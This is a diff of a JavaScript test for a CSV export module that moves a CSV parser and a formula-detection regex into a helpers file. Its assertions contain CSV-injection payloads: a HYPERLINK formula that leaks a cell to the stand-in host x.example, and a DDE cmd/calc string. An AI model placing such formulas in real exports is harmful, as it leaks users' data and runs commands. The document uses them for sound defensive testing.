@@ -3,36 +3,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { resultsCsv, resultsJson, csvField } from '../www/lib/exports.mjs';
-
-/**
- * RFC 4180, enough for the files resultsCsv writes.
- * @param {string} text
- * @returns {string[][]}
- */
-function parseCsv(text) {
-  const rows = [];
-  let row = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = text.startsWith('\uFEFF') ? 1 : 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; }
-      else if (ch === '"') quoted = false;
-      else cell += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') { row.push(cell); cell = ''; }
-    else if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
-    else cell += ch;
-  }
-  if (cell || row.length) { row.push(cell); rows.push(row); }
-  return rows;
-}
-
-/** What a spreadsheet takes for a formula (or, after a tab or CR, may): OWASP's list. */
-const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
-/** A figure as the tables print it: Vietnamese grouping and decimals, maybe a sign or a percent. */
-const NUMBER = /^[+-]?\d+(?:[.,]\d+)*%?$/;
+import { parseCsv, spreadsheetWouldRun } from './helpers.mjs';
 
 /**
  * A result as the core returns it, with hostile text in every field a unit controls (the
@@ -67,9 +38,7 @@ test('CSV: no field reaches a spreadsheet as a formula, and negative figures sta
   const rows = parseCsv(csv);
   assert.ok(rows.length >= 4);
   const fields = rows.flat();
-  for (const f of fields) {
-    assert.ok(!FORMULA_START.test(f) || NUMBER.test(f) || f === '-', `a field a spreadsheet would run: ${JSON.stringify(f)}`);
-  }
+  for (const f of fields) assert.ok(!spreadsheetWouldRun(f), `a field a spreadsheet would run: ${JSON.stringify(f)}`);
   // The hostile text is kept, made inert by a leading apostrophe (what Excel itself uses).
   assert.ok(fields.includes('\'=HYPERLINK("http://x.example/?"&D3,"Bấm vào đây")'));
   assert.ok(fields.includes('\'@SUM(1+1)*cmd|\' /C calc\'!A0'));
